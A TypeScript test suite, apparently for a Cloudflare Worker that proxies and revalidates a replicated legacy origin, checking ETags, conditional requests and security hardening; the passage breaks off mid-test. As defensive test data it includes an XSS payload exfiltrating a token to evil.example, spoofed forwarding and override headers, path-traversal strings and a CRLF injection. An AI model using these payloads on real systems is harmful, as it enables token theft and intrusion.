/**
 * Origin mode, end to end inside workerd: real Requests into the worker, whose fetches reach the two-replica
 * test origin (scripts/replica-origin.ts, started on loopback by vitest's globalSetup) and whose records live
 * in the real local KV. The replicas serve the same JSON with different ETags, Last-Modified dates, key orders
 * and whitespace, and count what they send.
 */

import { env } from 'cloudflare:test'
import { beforeEach, describe, expect, inject, it } from 'vitest'
import type { ReplicaStats } from '../../scripts/replica-origin.ts'
import type { Env } from '../../src/env.ts'
import { ORIGIN_RECORD_PREFIX } from '../../src/store/keys.ts'
import { expectProblem, fetchWith, forbidUnexpectedErrors, observedKv, sha256Tag, sleep } from './api.ts'

const ORIGIN = inject('replicaOrigin')
const EDGE = 'https://edge-etag.test'
const { DOCUMENTS } = env as Env

type Settings = Partial<
  Pick<Env, 'ORIGIN_URL' | 'ORIGIN_PREFIX' | 'ORIGIN_TIMEOUT_MS' | 'ORIGIN_RECORD_QUERY' | 'DOCUMENTS'>
>

/** edge sends a request to the worker with origin mode on (ORIGIN_URL the test origin, prefix /legacy). */
function edge(path: string, init: RequestInit = {}, settings: Settings = {}): Promise<Response> {
  return edgeAt(EDGE, path, init, settings)
}

/** edgeAt sends a request to the worker under another host name, as a client may name any in Host. */
function edgeAt(host: string, path: string, init: RequestInit = {}, settings: Settings = {}) {
  return fetchWith({ ORIGIN_URL: ORIGIN, ORIGIN_PREFIX: '/legacy', ...settings }, `${host}${path}`, init)
}

// No request in this file is the server's fault: anything logged as an error fails the test that logged it,
// and a green run prints nothing alarming.
forbidUnexpectedErrors()

// biome-ignore lint/suspicious/noExplicitAny: bodies are checked member by member
function json(response: Response): Promise<any> {
  return response.json()
}

/**
 * freshPath returns an origin path no test has used, in this run or an earlier one: KV keeps records between
 * tests, and bytes that flip within one second (as tests flip them) get no Last-Modified.
 */
function freshPath(): string {
  return `/fresh/${crypto.randomUUID()}`
}

/** recordCount returns how many origin records KV holds. */
async function recordCount(): Promise<number> {
  let count = 0
  let cursor: string | undefined
  do {
    const page: KVNamespaceListResult<unknown> = await DOCUMENTS.list({
      prefix: ORIGIN_RECORD_PREFIX,
      ...(cursor === undefined ? {} : { cursor }),
    })
    count += page.keys.length
    cursor = page.list_complete ? undefined : page.cursor
  } while (cursor !== undefined)
  return count
}

interface StoredRecord {
  vary: string[]
  variants: Record<string, { etag: string; lastModified: string | null; originTags: string[] }>
}

/**
 * recordOf returns the record KV holds for an origin path, or null, found the way the store names it (the
 * SHA-256 of the origin URL, base64url), computed here independently of src/.
 */
async function recordOf(originPath: string): Promise<StoredRecord | null> {
  const url = new URL(originPath, ORIGIN).href
  const digest = (await sha256Tag(new TextEncoder().encode(url))).slice(1, -1)
  return DOCUMENTS.get(`${ORIGIN_RECORD_PREFIX}${digest}`, 'json')
}

/** conditions returns the If-None-Match each replica last received (null: none). */
async function conditions(): Promise<Record<'a' | 'b', string | null>> {
  return (await fetch(new URL('/__replicas/conditions', ORIGIN))).json()
}

/** untilNextSecond waits for the clock's next whole second, so that Last-Modified (one-second) can move. */
async function untilNextSecond(): Promise<void> {
  await sleep(1_000 - (Date.now() % 1_000) + 20)
}

async function stats(): Promise<Record<'a' | 'b', ReplicaStats>> {
  return (await fetch(new URL('/__replicas/stats', ORIGIN))).json()
}

async function changeAtOrigin(path: string, value: unknown): Promise<void> {
  const response = await fetch(new URL(`/__replicas/documents${path}`, ORIGIN), {
    method: 'PUT',
    body: JSON.stringify(value),
  })
  expect(response.status).toBe(204)
}

function total(all: Record<'a' | 'b', ReplicaStats>, field: keyof ReplicaStats): number {
  return all.a[field] + all.b[field]
}

/** etag returns a response's ETag, failing the test when there is none. */
function etag(response: Response): string {
  const value = response.headers.get('ETag')
  if (value === null) throw new Error(`${response.status} response has no ETag`)
  return value
}

beforeEach(async () => {
  expect((await fetch(new URL('/__replicas/reset', ORIGIN), { method: 'POST' })).status).toBe(204)
})

describe('the test origin', () => {
  it('disagrees with itself: each replica sends its own ETag, Last-Modified and bytes', async () => {
    const first = await fetch(new URL('/users/1', ORIGIN))
    const second = await fetch(new URL('/users/1', ORIGIN))
    expect(first.headers.get('X-Replica')).not.toBe(second.headers.get('X-Replica'))
    expect(first.headers.get('ETag')).not.toBe(second.headers.get('ETag'))
    expect(first.headers.get('Last-Modified')).not.toBe(second.headers.get('Last-Modified'))
    expect(await first.text()).not.toBe(await second.text())
  })
})

describe('reads through edge-etag', () => {
  it('give one strong ETag, one Last-Modified and the same canonical bytes whichever replica answers', async () => {
    const answers = [await edge('/legacy/users/1'), await edge('/legacy/users/1')]
    const replicas = answers.map((answer) => answer.headers.get('X-Replica'))
    expect(new Set(replicas)).toEqual(new Set(['a', 'b']))
    const [a, b] = answers as [Response, Response]
    expect(a.status).toBe(200)
    expect(a.headers.get('ETag')).toMatch(/^"[A-Za-z0-9_-]{43}"$/)
    expect(b.headers.get('ETag')).toBe(a.headers.get('ETag'))
    expect(b.headers.get('Last-Modified')).toBe(a.headers.get('Last-Modified'))
    const body = await a.text()
    expect(await b.text()).toBe(body)
    expect(body).toBe('{"email":"ada@example.com","id":1,"name":"Ada Lovelace","roles":["admin","author"]}')
    expect(a.headers.get('Content-Length')).toBe(String(body.length))
    expect(a.headers.get('Content-Type')).toBe('application/json; charset=utf-8')
    expect(a.headers.get('Cache-Control')).toBe('public, max-age=0, must-revalidate')
    expect(a.headers.get('Vary')).toBe('Accept-Encoding')
  })

  it('answer the tag with 304s from every replica, and the origin sends no body for them', async () => {
    const first = await edge('/legacy/users/1')
    const etag = first.headers.get('ETag') as string
    await edge('/legacy/users/1') // the other replica: its tag is learned too
    const before = await stats()
    const revalidations = await Promise.all(
      [1, 2, 3, 4].map(() => edge('/legacy/users/1', { headers: { 'If-None-Match': etag } })),
    )
    for (const answer of revalidations) {
      expect(answer.status).toBe(304)
      expect(answer.headers.get('ETag')).toBe(etag)
      // Beside an ETag, a 304 carries no Last-Modified (RFC 9110 section 15.4.5): the client keeps its own.
      expect(first.headers.get('Last-Modified')).not.toBeNull()
      expect(answer.headers.get('Last-Modified')).toBeNull()
      expect(answer.headers.get('Cache-Control')).toBe('public, max-age=0, must-revalidate')
      expect(await answer.text()).toBe('')
    }
    const after = await stats()
    expect(after.a.notModified - before.a.notModified).toBe(2)
    expect(after.b.notModified - before.b.notModified).toBe(2)
    expect(total(after, 'bodyBytes')).toBe(total(before, 'bodyBytes'))
  })

  it('send a replica its own recorded tag, and answer from its 304', async () => {
    const path = freshPath()
    await changeAtOrigin(path, { id: 'same replica' })
    // 1. Replica a answers first (the round robin starts there after a reset); its tag is recorded.
    const first = await edge(`/legacy${path}`)
    expect(first.headers.get('X-Replica')).toBe('a')
    const [variant] = Object.values((await recordOf(path))?.variants ?? {})
    expect(variant?.originTags).toEqual([expect.stringMatching(/^"2c1f-/)])
    // 2. Replica b takes a request of someone else, so the revalidation goes to a again.
    expect((await fetch(new URL('/users/1', ORIGIN))).headers.get('X-Replica')).toBe('b')
    const before = await stats()
    const again = await edge(`/legacy${path}`, { headers: { 'If-None-Match': etag(first) } })
    // 3. a was asked with its own tag, answered 304 with no body, and the client got ours.
    expect((await conditions()).a).toBe(variant?.originTags[0])
    const after = await stats()
    expect(after.a.notModified - before.a.notModified).toBe(1)
    expect(after.a.full - before.a.full).toBe(0)
    expect(total(after, 'bodyBytes')).toBe(total(before, 'bodyBytes'))
    expect(again.status).toBe(304)
    expect(again.headers.get('ETag')).toBe(etag(first))
  })

  it('still answer 304 when the replica has not told us its tag yet, after downloading the body', async () => {
    const first = await edge('/legacy/users/2')
    const etag = first.headers.get('ETag') as string
    const before = await stats()
    const second = await edge('/legacy/users/2', { headers: { 'If-None-Match': etag } })
    expect(second.status).toBe(304)
    expect(second.headers.get('ETag')).toBe(etag)
    const after = await stats()
    expect(total(after, 'full') - total(before, 'full')).toBe(1)
  })

  it('give a 200 with a new tag and a later Last-Modified once the content changes at the origin', async () => {
    const path = freshPath()
    await changeAtOrigin(path, { id: 1, name: 'Ada Lovelace' })
    const first = await edge(`/legacy${path}`)
    const etag = first.headers.get('ETag') as string
    // Bytes first seen within the second of the bytes before them get no date: step past that second.
    await untilNextSecond()
    await changeAtOrigin(path, { id: 1, name: 'Ada King', roles: ['admin'] })
    const changed = await edge(`/legacy${path}`, { headers: { 'If-None-Match': etag } })
    expect(changed.status).toBe(200)
    expect(changed.headers.get('ETag')).not.toBe(etag)
    expect(await changed.text()).toBe('{"id":1,"name":"Ada King","roles":["admin"]}')
    const since = Date.parse(first.headers.get('Last-Modified') as string)
    expect(Date.parse(changed.headers.get('Last-Modified') as string)).toBeGreaterThan(since)
    const conditional = await edge(`/legacy${path}`, {
      headers: { 'If-Modified-Since': first.headers.get('Last-Modified') as string },
    })
    expect(conditional.status).toBe(200)
    const again = await edge(`/legacy${path}`, { headers: { 'If-None-Match': etag } })
    expect(again.status).toBe(200)
    expect(again.headers.get('ETag')).toBe(changed.headers.get('ETag'))
  })

  it('answer If-Modified-Since with our first-seen date', async () => {
    const path = freshPath()
    await changeAtOrigin(path, { id: 'first seen now' })
    const first = await edge(`/legacy${path}`)
    expect(first.headers.get('Last-Modified')).not.toBeNull()
    const lastModified = first.headers.get('Last-Modified') as string
    const answer = await edge(`/legacy${path}`, { headers: { 'If-Modified-Since': lastModified } })
    expect(answer.status).toBe(304)
  })

  it('answer HEAD with the validators and no body', async () => {
    const get = await edge('/legacy/users/1')
    await edge('/legacy/users/1')
    const head = await edge('/legacy/users/1', { method: 'HEAD' })
    expect(head.status).toBe(200)
    expect(head.headers.get('ETag')).toBe(get.headers.get('ETag'))
    expect(head.headers.get('Content-Type')).toBe('application/json; charset=utf-8')
    expect(await head.text()).toBe('')
  })

  it('refuse a GET whose If-Match fails with 412 and our current tag', async () => {
    const get = await edge('/legacy/users/1')
    const answer = await edge('/legacy/users/1', { headers: { 'If-Match': '"not-the-tag"' } })
    expect(answer.status).toBe(412)
    expect(answer.headers.get('Content-Type')).toBe('application/problem+json')
    expect(answer.headers.get('ETag')).toBe(get.headers.get('ETag'))
  })

  it('hash other types byte for byte, so replicas with different tags still agree', async () => {
    const [a, b] = [await edge('/legacy/hello.txt'), await edge('/legacy/hello.txt')] as [Response, Response]
    expect(a.headers.get('X-Replica')).not.toBe(b.headers.get('X-Replica'))
    expect(a.headers.get('ETag')).toBe(b.headers.get('ETag'))
    expect(await a.text()).toBe('Hello from the origin.\n')
    expect(a.headers.get('Content-Type')).toBe('text/plain; charset=utf-8')
  })

  it('keep one record per variant of a Vary-ing resource', async () => {
    const french = await edge('/legacy/greeting', { headers: { 'Accept-Language': 'fr' } })
    const english = await edge('/legacy/greeting', { headers: { 'Accept-Language': 'en' } })
    expect(await french.json()).toEqual({ greeting: 'Bonjour' })
    expect(french.headers.get('Vary')).toBe('Accept-Language')
    const frenchTag = french.headers.get('ETag') as string
    expect(english.headers.get('ETag')).not.toBe(frenchTag)
    const englishWithFrenchTag = await edge('/legacy/greeting', {
      headers: { 'Accept-Language': 'en', 'If-None-Match': frenchTag },
    })
    expect(englishWithFrenchTag.status).toBe(200)
    const frenchAgain = await edge('/legacy/greeting', {
      headers: { 'Accept-Language': 'fr', 'If-None-Match': frenchTag },
    })
    expect(frenchAgain.status).toBe(304)
    expect(frenchAgain.headers.get('Vary')).toBe('Accept-Language')
  })

  it('remember the origin tags of every replica in KV, and nothing of the response body', async () => {
    const path = freshPath()
    await changeAtOrigin(path, { id: 1, name: 'Ada Lovelace' })
    await edge(`/legacy${path}`)
    await edge(`/legacy${path}`)
    const record = await recordOf(path)
    const [variant] = Object.values(record?.variants ?? {})
    expect(variant?.originTags).toEqual([
      expect.stringMatching(/^"[0-9a-f]+-/),
      expect.stringMatching(/^"2c1f-/),
    ])
    expect(JSON.stringify(record)).not.toContain('Ada')
  })

  it('pass a cookie the origin sets on a 304 too', async () => {
    const first = await edge('/legacy/session')
    expect(first.headers.get('Set-Cookie')).toMatch(/^session=renewed-by-/)
    const again = await edge('/legacy/session', {
      headers: { 'If-None-Match': first.headers.get('ETag') as string },
    })
    expect(again.status).toBe(304)
    expect(again.headers.get('Set-Cookie')).toMatch(/^session=renewed-by-/)
  })

  it('pass a body in a coding the runtime does not decode on as it came, without a tag', async () => {
    const answer = await edge('/legacy/deflate')
    expect(answer.status).toBe(200)
    expect(answer.headers.get('Content-Encoding')).toBe('deflate')
    expect(answer.headers.get('ETag')).toBeNull()
  })

  it('skip what a Connection field names that is no field name', async () => {
    const answer = await edge('/legacy/odd-connection')
    expect(answer.status).toBe(200)
    expect(await json(answer)).toEqual({ odd: true })
  })

  it('pass other answers on without the origin validators', async () => {
    const answer = await edge('/legacy/users/404')
    expect(answer.status).toBe(404)
    expect(await answer.json()).toEqual({ error: 'not found' })
    expect(answer.headers.get('ETag')).toBeNull()
  })
})

describe('answers for one user', () => {
  it('are never shared: each user gets their own bytes and tag, and a 304 only for their own', async () => {
    const ada = await edge('/legacy/me', { headers: { Authorization: 'Bearer ada' } })
    const alan = await edge('/legacy/me', { headers: { Authorization: 'Bearer alan' } })
    expect((await json(ada)).user).toBe('Bearer ada')
    expect((await json(alan)).user).toBe('Bearer alan')
    expect(ada.headers.get('Cache-Control')).toBe('private, max-age=0')
    const adaTag = ada.headers.get('ETag') as string
    expect(adaTag).toMatch(/^"[A-Za-z0-9_-]{43}"$/)
    const alanWithAdaTag = await edge('/legacy/me', {
      headers: { Authorization: 'Bearer alan', 'If-None-Match': adaTag },
    })
    expect(alanWithAdaTag.status).toBe(200)
    expect((await json(alanWithAdaTag)).user).toBe('Bearer alan')
  })

  it('get no other requester’s validators, even from an origin that gives them one strong tag', async () => {
    // The origin answers each API key with its own document, all with ETag "v1", and no Vary.
    const ada = await edge('/legacy/tenant', { headers: { 'X-Api-Key': 'key-ada' } })
    expect((await json(ada)).tenant).toBe('ada')
    const alan = await edge('/legacy/tenant', { method: 'HEAD', headers: { 'X-Api-Key': 'key-alan' } })
    expect(alan.status).toBe(200)
    expect(alan.headers.get('ETag')).not.toBe(etag(ada))
    expect(alan.headers.get('ETag')).toBe(
      await sha256Tag(new TextEncoder().encode('{"plan":"free","tenant":"alan"}')),
    )
    expect(await recordOf('/tenant')).toBeNull()
  })
})

describe('what is meant for one user', () => {
  // Each row has one reason alone to stay unrecorded: the answers are public unless the row says otherwise.
  it.each([
    { reason: 'a request with Authorization', path: 'fresh', headers: { Authorization: 'Bearer ada' } },
    { reason: 'a request with a Cookie', path: 'fresh', headers: { Cookie: 'session=ada' } },
    { reason: 'a request with an X-Api-Key', path: 'fresh', headers: { 'X-Api-Key': 'key-ada' } },
    {
      reason: 'a request with GitLab’s PRIVATE-TOKEN',
      path: 'fresh',
      headers: { 'PRIVATE-TOKEN': 'glpat-ada' },
    },
    {
      reason: 'a request with X-Amz-Security-Token',
      path: 'fresh',
      headers: { 'X-Amz-Security-Token': 'ada' },
    },
    {
      reason: 'a request with Ocp-Apim-Subscription-Key',
      path: 'fresh',
      headers: { 'Ocp-Apim-Subscription-Key': 'ada' },
    },
    { reason: 'an answer marked private', path: '/me', headers: {} },
    { reason: 'an answer marked no-store', path: '/no-store', headers: {} },
    { reason: 'an answer that sets a cookie', path: '/session', headers: {} },
    { reason: 'an answer that varies on *', path: '/vary-star', headers: {} },
  ])('leaves no record: $reason, yet gets a 304 for its own tag', async ({ path, headers }) => {
    const originPath = path === 'fresh' ? freshPath() : path
    if (path === 'fresh') await changeAtOrigin(originPath, { id: 'public bytes' })
    const first = await edge(`/legacy${originPath}`, { headers })
    expect(first.status).toBe(200)
    expect(await recordOf(originPath)).toBeNull()
    // /me names the replica that answered: ask the same one again (round robin: every other request).
    if (path === '/me') await fetch(new URL('/users/1', ORIGIN))
    const again = await edge(`/legacy${originPath}`, {
      headers: { ...headers, 'If-None-Match': etag(first) },
    })
    expect(again.status).toBe(304)
    expect(await recordOf(originPath)).toBeNull()
  })

  it('is told apart from what is not: a public answer to a request without credentials is recorded', async () => {
    const path = freshPath()
    await changeAtOrigin(path, { id: 'public bytes' })
    const first = await edge(`/legacy${path}`)
    const record = await recordOf(path)
    expect(Object.values(record?.variants ?? {}).map((variant) => variant.etag)).toEqual([etag(first)])
  })
})

// An origin that cannot be reached, or breaks off its body, is checked over HTTP (e2e/origin-mode.ts): workerd
// writes its own log line for every failed connection, which would look like a failure here.
describe('origin failures', () => {
  it('turn a 5xx into a 502 problem that is not cached', async () => {
    const answer = await edge('/legacy/fail')
    expect(answer.status).toBe(502)
    expect(answer.headers.get('Content-Type')).toBe('application/problem+json')
    expect(answer.headers.get('Cache-Control')).toBe('no-store')
    expect(answer.headers.get('ETag')).toBeNull()
    expect((await json(answer)).detail).toBe('The origin answered 503')
    expect(answer.headers.get('Retry-After')).toBe('30')
  })

  it('turn a slow origin into a 504 after ORIGIN_TIMEOUT_MS', async () => {
    const started = Date.now()
    const answer = await edge('/legacy/slow?ms=3000', {}, { ORIGIN_TIMEOUT_MS: '300' })
    expect(answer.status).toBe(504)
    expect(Date.now() - started).toBeLessThan(2_500)
    expect((await json(answer)).detail).toBe('The origin did not answer within 300 ms')
  })
})

describe('writes through edge-etag', () => {
  it('translate If-Match from our tag to the replicas’ own, so the write lands whichever replica takes it', async () => {
    const read = await edge('/legacy/users/2')
    await edge('/legacy/users/2')
    const etag = read.headers.get('ETag') as string
    for (const name of ['Alan M. Turing', 'Alan Mathison Turing']) {
      const current = (await edge('/legacy/users/2')).headers.get('ETag') as string
      const write = await edge('/legacy/users/2', {
        method: 'PUT',
        headers: { 'Content-Type': 'application/json', 'If-Match': current },
        body: JSON.stringify({ id: 2, name }),
      })
      expect(write.status).toBe(200)
      expect(write.headers.get('ETag')).toBeNull()
    }
    const after = await edge('/legacy/users/2')
    expect(after.headers.get('ETag')).not.toBe(etag)
    expect(await after.json()).toEqual({ id: 2, name: 'Alan Mathison Turing' })
  })

  it('refuse a write whose If-Match is stale with 412 and the current tag, without forwarding it', async () => {
    const stale = (await edge('/legacy/users/2')).headers.get('ETag') as string
    await changeAtOrigin('/users/2', { id: 2, name: 'Someone else' })
    const write = await edge('/legacy/users/2', {
      method: 'PUT',
      headers: { 'Content-Type': 'application/json', 'If-Match': stale },
      body: JSON.stringify({ id: 2, name: 'Lost update' }),
    })
    expect(write.status).toBe(412)
    expect(write.headers.get('ETag')).not.toBe(stale)
    expect(write.headers.get('ETag')).toMatch(/^"[A-Za-z0-9_-]{43}"$/)
    expect(await (await fetch(new URL('/users/2', ORIGIN))).json()).toEqual({ name: 'Someone else', id: 2 })
  })

  it('translate If-Match for a write with credentials too', async () => {
    await edge('/legacy/users/2')
    await edge('/legacy/users/2')
    for (const name of ['Alan M. Turing', 'Alan Mathison Turing']) {
      const credentials = { Authorization: 'Bearer alan' }
      const current = (await edge('/legacy/users/2', { headers: credentials })).headers.get('ETag') as string
      const write = await edge('/legacy/users/2', {
        method: 'PUT',
        headers: { ...credentials, 'Content-Type': 'application/json', 'If-Match': current },
        body: JSON.stringify({ id: 2, name }),
      })
      expect(write.status).toBe(200)
    }
  })

  it('refuse a write whose If-Unmodified-Since predates bytes it has not seen', async () => {
    const path = freshPath()
    await changeAtOrigin(path, { id: 2, name: 'Alan Turing' })
    const read = await edge(`/legacy${path}`)
    expect(read.headers.get('Last-Modified')).not.toBeNull()
    await changeAtOrigin(path, { id: 2, name: 'Someone else' })
    const write = await edge(`/legacy${path}`, {
      method: 'PUT',
      headers: {
        'Content-Type': 'application/json',
        'If-Unmodified-Since': read.headers.get('Last-Modified') as string,
      },
      body: JSON.stringify({ id: 2, name: 'Lost update' }),
    })
    expect(write.status).toBe(412)
    expect(await (await fetch(new URL(path, ORIGIN))).json()).toEqual({ name: 'Someone else', id: 2 })
  })

  it('check a write with credentials against the hash alone: no shared date, in its check or its 412', async () => {
    const path = freshPath()
    await changeAtOrigin(path, { id: 2, name: 'Alan Turing' })
    // 1. A public read records the bytes with their first-seen date.
    const read = await edge(`/legacy${path}`)
    const lastModified = read.headers.get('Last-Modified') as string
    expect(lastModified).not.toBeNull()
    // 2. A write with credentials, whose If-Unmodified-Since is that date: the bytes are unchanged, but its
    //    requester never read them (the date is another's), so it is refused, and told no date.
    const credentials = { 'PRIVATE-TOKEN': 'glpat-alan' }
    const write = await edge(`/legacy${path}`, {
      method: 'PUT',
      headers: { ...credentials, 'Content-Type': 'application/json', 'If-Unmodified-Since': lastModified },
      body: JSON.stringify({ id: 2, name: 'Lost update' }),
    })
    expect(write.status).toBe(412)
    expect(write.headers.get('Last-Modified')).toBeNull()
    expect(write.headers.get('ETag')).toBe(etag(read))
    // 3. A stale If-Match gets the current tag, and no date either.
    const stale = await edge(`/legacy${path}`, {
      method: 'PUT',
      headers: { Cookie: 'session=alan', 'Content-Type': 'application/json', 'If-Match': '"stale"' },
      body: '{}',
    })
    expect(stale.status).toBe(412)
    expect(stale.headers.get('Last-Modified')).toBeNull()
    expect(await (await fetch(new URL(path, ORIGIN))).json()).toEqual({ name: 'Alan Turing', id: 2 })
  })

  it('check If-None-Match: * itself, whatever the origin does with it', async () => {
    const existing = await edge('/legacy/users/1', {
      method: 'PUT',
      headers: { 'Content-Type': 'application/json', 'If-None-Match': '*' },
      body: JSON.stringify({ id: 1, name: 'Overwritten' }),
    })
    expect(existing.status).toBe(412)
    expect((await json(await edge('/legacy/users/1'))).name).toBe('Ada Lovelace')
    const created = await edge('/legacy/users/9', {
      method: 'PUT',
      headers: { 'Content-Type': 'application/json', 'If-None-Match': '*' },
      body: JSON.stringify({ id: 9 }),
    })
    expect(created.status).toBe(201)
  })

  it('treat what it cannot hash as there, matching no tag', async () => {
    const createOnly = await edge('/legacy/deflate', {
      method: 'PUT',
      headers: { 'If-None-Match': '*' },
      body: '{}',
    })
    expect(createOnly.status).toBe(412)
    expect(createOnly.headers.get('ETag')).toBeNull()
    const tagged = await edge('/legacy/deflate', {
      method: 'PUT',
      headers: { 'If-Match': '"anything"' },
      body: '{}',
    })
    expect(tagged.status).toBe(412)
    const exists = await edge('/legacy/deflate', { method: 'PUT', headers: { 'If-Match': '*' }, body: '{}' })
    expect(exists.status).toBe(200)
  })

  it('refuse If-Match with 412 when the origin has no strong tag to translate it to', async () => {
    const read = await edge('/legacy/greeting')
    const write = await edge('/legacy/greeting', {
      method: 'PUT',
      headers: { 'If-Match': read.headers.get('ETag') as string },
      body: '{}',
    })
    expect(write.status).toBe(412)
    expect((await json(write)).detail).toMatch(/no strong ETag/)
  })

  it('forward a write without preconditions as it is, and a DELETE guarded by our tag', async () => {
    const created = await edge('/legacy/users/3', {
      method: 'PUT',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ id: 3, name: 'Grace Hopper' }),
    })
    expect(created.status).toBe(201)
    // The origin's Location names its own path; the client gets this worker's path for it.
    expect(created.headers.get('Location')).toBe('/legacy/users/3')
    const etag = (await edge('/legacy/users/3')).headers.get('ETag') as string
    const deleted = await edge('/legacy/users/3', { method: 'DELETE', headers: { 'If-Match': etag } })
    expect(deleted.status).toBe(204)
    expect((await edge('/legacy/users/3')).status).toBe(404)
  })
})

describe('origin mode', () => {
  it('is off unless ORIGIN_URL is set', async () => {
    const answer = await edge('/legacy/users/1', {}, { ORIGIN_URL: '' })
    expect(answer.status).toBe(404)
    expect(answer.headers.get('Content-Type')).toBe('application/problem+json')
  })

  it('leaves the API beside it alone', async () => {
    const answer = await edge('/api/items')
    expect(answer.status).toBe(200)
    expect(answer.headers.get('X-Replica')).toBeNull()
  })

  it('names the origin step in Server-Timing', async () => {
    const answer = await edge('/legacy/users/1')
    expect(answer.headers.get('Server-Timing')).toMatch(
      /^kv;dur=[\d.]+, hash;dur=[\d.]+, origin;dur=[\d.]+, total;dur=/,
    )
  })
})

describe('answers from the origin, served on this worker’s origin', () => {
  const hostile = `/legacy/reflect?name=${encodeURIComponent('<script>fetch("//evil.example/?t="+localStorage.token)</script>')}`

  it('are sandboxed: a page of the origin gets an opaque origin and runs no script here', async () => {
    const page = await edge(hostile)
    expect(page.status).toBe(200)
    expect(await page.text()).toContain('<script>')
    expect(page.headers.get('Content-Security-Policy')).toBe('sandbox')
    expect(page.headers.get('X-Content-Type-Options')).toBe('nosniff')
  })

  it.each([
    { label: 'a hashed 200', path: '/legacy/users/1', init: {} },
    { label: 'a 404 passed on', path: '/legacy/users/404', init: {} },
    { label: 'a redirect passed on', path: '/legacy/located?status=302&location=/users/1', init: {} },
    { label: 'a HEAD', path: '/legacy/users/1', init: { method: 'HEAD' } },
    { label: 'a body in a coding not decoded', path: '/legacy/deflate', init: {} },
    { label: 'the answer to a write', path: '/legacy/users/7', init: { method: 'PUT', body: '{"id":7}' } },
  ])('are sandboxed whatever they are: $label', async ({ path, init }) => {
    const answer = await edge(path, init)
    expect(answer.status).toBeLessThan(500)
    expect(answer.headers.get('Content-Security-Policy')).toBe('sandbox')
    expect(answer.headers.get('X-Content-Type-Options')).toBe('nosniff')
  })

  it('are sandboxed on a 304 too', async () => {
    const first = await edge('/legacy/users/1')
    const again = await edge('/legacy/users/1', { headers: { 'If-None-Match': etag(first) } })
    expect(again.status).toBe(304)
    expect(again.headers.get('Content-Security-Policy')).toBe('sandbox')
  })

  it('keep the origin’s own policy beside the sandbox: both are enforced', async () => {
    const csp = encodeURIComponent("default-src 'self'")
    const answer = await edge(`/legacy/located?status=200&csp=${csp}`)
    expect(answer.headers.get('Content-Security-Policy')).toBe("default-src 'self', sandbox")
  })
})

describe('the request the origin gets', () => {
  const spoofed = {
    'X-Forwarded-For': '203.0.113.66',
    'X-Real-IP': '203.0.113.66',
    Forwarded: 'for=203.0.113.66;host=evil.example',
    'True-Client-IP': '203.0.113.66',
    'X-Forwarded-Host': 'evil.example',
    'X-Forwarded-Proto': 'gopher',
    'X-Forwarded-Port': '1',
    'X-Original-URL': '/admin',
    'X-Rewrite-URL': '/admin',
    'X-HTTP-Method-Override': 'DELETE',
    'X-Client-IP': '203.0.113.66',
  }

  it('carries the worker’s own Forwarded and X-Forwarded-*, from CF-Connecting-IP, never the client’s', async () => {
    const answer = await edge('/legacy/echo', {
      headers: { ...spoofed, 'CF-Connecting-IP': '198.51.100.7', Authorization: 'Bearer ada', Cookie: 'a=1' },
    })
    const { headers } = await json(answer)
    expect(headers.forwarded).toBe('for=198.51.100.7;proto=https')
    expect(headers['x-forwarded-for']).toBe('198.51.100.7')
    expect(headers['x-forwarded-proto']).toBe('https')
    for (const name of [
      'x-real-ip',
      'true-client-ip',
      'x-forwarded-host',
      'x-forwarded-port',
      'x-original-url',
    ]) {
      expect(headers[name], name).toBeUndefined()
    }
    expect(headers['x-rewrite-url']).toBeUndefined()
    expect(headers['x-http-method-override']).toBeUndefined()
    expect(headers['x-client-ip']).toBeUndefined()
    expect(JSON.stringify(headers)).not.toContain('203.0.113.66')
    // Credentials reach the origin, by design: it decides who may see what.
    expect(headers.authorization).toBe('Bearer ada')
    expect(headers.cookie).toBe('a=1')
  })

  it('carries none of the forwarding and identity fields a client made up, however it spells them', async () => {
    const madeUp = [
      'X_Forwarded_For',
      'Forwarded-For',
      'X-Forwarded',
      'X-Originating-IP',
      'X-Remote-IP',
      'X-Remote-Addr',
      'Fastly-Client-IP',
      'X-Envoy-External-Address',
      'X-Original-Forwarded-For',
      'X-ProxyUser-Ip',
      'WL-Proxy-Client-IP',
      'Proxy-Client-IP',
      'X-ARR-ClientIP',
      'X-Forwarded-By',
      'X-Real-Port',
      'X-Forwarded-Protocol',
      'Front-End-Https',
      'X-Url-Scheme',
      'X-Envoy-Original-Path',
      'X-Forwarded-Path',
      'X-Original-Method',
      'X-Forwarded-Method',
      'X-Middleware-Subrequest',
      'CF-IPCountry',
    ]
    const sent = Object.fromEntries(madeUp.map((name) => [name, '203.0.113.66']))
    const answer = await edge('/legacy/echo', {
      headers: { ...sent, 'X-Request-Id': 'r-1', 'Idempotency-Key': 'k-1', 'X-Api-Version': '2' },
    })
    const { headers } = await json(answer)
    // Node reads the field names as they came, lower-cased: underscores and all.
    const arrived = madeUp.map((name) => name.toLowerCase()).filter((name) => name in headers)
    expect(arrived).toEqual([])
    expect(JSON.stringify(headers)).not.toContain('203.0.113.66')
    expect(headers).toMatchObject({ 'x-request-id': 'r-1', 'idempotency-key': 'k-1', 'x-api-version': '2' })
  })

  it('says for=unknown when the worker knows no client address', async () => {
    const { headers } = await json(await edge('/legacy/echo', { headers: spoofed }))
    expect(headers.forwarded).toBe('for=unknown;proto=https')
    expect(headers['x-forwarded-for']).toBeUndefined()
  })
})

describe('paths under the prefix', () => {
  it.each([
    '/legacy/..%2f..%2fsecret',
    '/legacy/%2e%2e%2fsecret',
    '/legacy/..%5csecret',
    '/legacy/%u002e%u002e/secret',
    '/legacy/%252e%252e/secret',
    '/legacy/..%252fsecret',
    '/legacy/users%00.json',
    '/legacy/..;/secret',
    '/legacy/%f8%80%80%80%ae%f8%80%80%80%ae/secret',
    '/legacy/%fc%80%80%80%80%af',
    '/legacy/%ef%bc%8e%ef%bc%8e%ef%bc%8fsecret',
    '/legacy/%e2%80%a5/secret',
    '/legacy/..%20/secret',
    '/legacy/..%09/secret',
    '/legacy/..../secret',
    '/legacy/users%0d%0aX-Injected:%201',
    '/legacy/users%7f',
  ])('%s is refused with 400, and never reaches the origin', async (path) => {
    expect(new URL(`${EDGE}${path}`).pathname).toBe(path)
    const before = await stats()
    const answer = await edge(path)
    await expectProblem(answer, 400)
    expect(total(await stats(), 'requests')).toBe(total(before, 'requests'))
  })

  it('that the URL parser resolves never leave the prefix: literal and %2e dot segments', async () => {
    expect(new URL(`${EDGE}/legacy/%2e%2e/api/items`).pathname).toBe('/api/items')
    expect((await edge('/legacy/%2e%2e/api/items')).headers.get('X-Replica')).toBeNull()
  })

  it('may hold any other escape', async () => {
    const answer = await edge('/legacy/users/no%20such%20user')
